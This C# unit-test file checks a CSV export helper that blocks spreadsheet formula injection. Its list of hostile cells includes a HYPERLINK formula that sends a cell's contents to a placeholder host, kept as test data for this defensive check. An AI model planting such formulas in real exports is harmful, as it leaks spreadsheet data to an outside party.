using System.Text;
using CsvHelper;
using KopUkm.Dashboard.Common;
using KopUkm.Dashboard.Tests.TestInfrastructure;

namespace KopUkm.Dashboard.Tests.Common;

public sealed class CsvFileTests
{
    /// <summary>Cells a spreadsheet would run as formulas (OWASP's starting characters).</summary>
    public static TheoryData<string> Hostile => new()
    {
        "=HYPERLINK(\"http://contoh.invalid/?d=\"&A1,\"Klik\")",
        "+1",
        "-2",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
        "'=1+1",
        "''+2",
    };

    [Theory]
    [MemberData(nameof(Hostile))]
    public void A_cell_that_a_spreadsheet_would_run_as_a_formula_gets_an_apostrophe_in_front(string value)
    {
        Assert.Equal("'" + value, CsvFile.Neutralise(value));
    }

    [Theory]
    [InlineData("Koperasi Maju Bersama")]
    [InlineData("")]
    [InlineData("'abc")]
    [InlineData("'")]
    [InlineData("0812 3456 7890")]
    [InlineData("a=b")]
    [InlineData("15.71")]
    public void Other_cells_are_written_as_they_are(string value)
    {
        Assert.Equal(value, CsvFile.Neutralise(value));
    }

    [Theory]
    [MemberData(nameof(Hostile))]
    [InlineData("Koperasi Maju Bersama")]
    [InlineData("'abc")]
    [InlineData("'")]
    [InlineData("")]
    public void Restoring_takes_off_exactly_the_apostrophe_the_export_added(string value)
    {
        Assert.Equal(value, CsvFile.RestoreNeutralised(CsvFile.Neutralise(value)));
    }

    [Fact]
    public void Restoring_leaves_an_apostrophe_the_export_never_adds()
    {
        Assert.Equal("'abc", CsvFile.RestoreNeutralised("'abc"));
        Assert.Equal("'08123", CsvFile.RestoreNeutralised("'08123"));
        Assert.Equal("=1", CsvFile.RestoreNeutralised("=1"));
    }

    [Fact]
    public void A_written_file_is_utf8_with_a_byte_order_mark_and_every_hostile_cell_neutralised()
    {
        var bytes = CsvFile.Write([["Nama", "Catatan"], ["=HYPERLINK(\"http://x\",\"y\")", "-2"], ["Koperasi – Jambi", "@SUM(1)"]]);

        Assert.Equal(Encoding.UTF8.Preamble.ToArray(), bytes[..3]);
        Assert.Equal(
            [["Nama", "Catatan"], ["'=HYPERLINK(\"http://x\",\"y\")", "'-2"], ["Koperasi – Jambi", "'@SUM(1)"]],
            ReadCells(bytes));
    }

    [Fact]
    public void No_code_writes_csv_except_through_CsvFile()
    {
        var writers = Directory.EnumerateFiles(RepoPaths.App, "*.*", SearchOption.AllDirectories)
            .Where(f => (f.EndsWith(".cs", StringComparison.Ordinal) || f.EndsWith(".razor", StringComparison.Ordinal))
                        && !f.Contains("/obj/", StringComparison.Ordinal) && !f.Contains("/bin/", StringComparison.Ordinal)
                        && !f.EndsWith(Path.Combine("Common", "CsvFile.cs"), StringComparison.Ordinal))
            .Where(f => File.ReadAllText(f).Contains("CsvWriter", StringComparison.Ordinal))
            .Select(Path.GetFileName);

        Assert.Empty(writers);
    }

    /// <summary>The raw cells of a written file, as a spreadsheet would receive them.</summary>
    public static List<string[]> ReadCells(byte[] csv)
    {
        using var reader = CsvReader.Create(new StreamReader(new MemoryStream(csv)), new CsvReaderOptions { HasHeader = false }, leaveOpen: false);
        var rows = new List<string[]>();
        while (reader.Read())
        {
            rows.Add([.. Enumerable.Range(0, reader.FieldCount).Select(reader.GetString)]);
        }

        return rows;
    }
}
